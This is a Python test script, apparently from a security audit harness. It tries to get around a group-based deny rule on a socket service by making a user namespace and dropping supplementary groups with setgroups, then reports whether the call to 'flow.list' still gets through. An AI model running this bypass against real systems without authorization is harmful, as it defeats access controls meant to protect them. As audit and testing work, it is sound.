"""Escapes a rule that restricts a group, by dropping the group in a user namespace.

Findings: A.7, L3

    drop_groups.py SOCKET

The rule of the caller's group does not allow `flow.list`; without that rule the caller may call it.
"""

import ctypes
import os
import sys

from attack import Connection, impossible, refused, succeeded, unprepared

path = sys.argv[1]
CLONE_NEWUSER = 0x10000000

member = Connection(path)
if "result" not in member.reply("account.list") or "error" not in member.reply("flow.list"):
    unprepared("the group's rule does not hold for a member of the group")

if os.geteuid() == 0:
    # Like `unshare --map-auto` with newuidmap. Root needs no namespace to drop groups.
    os.setgroups([])
else:
    user = os.geteuid()
    if ctypes.CDLL(None, use_errno=True).unshare(CLONE_NEWUSER):
        impossible("no user namespace can be made: " + os.strerror(ctypes.get_errno()))
    try:
        with open("/proc/self/uid_map", "w") as file:
            file.write(f"0 {user} 1")
        os.setgroups([])
    except OSError as error:
        impossible(f"the groups cannot be left: {error}")
reply = Connection(path).reply("flow.list")
if "result" in reply:
    succeeded("the group's rule does not hold for a process that has left the group")
refused(reply["error"]["data"]["reason"])
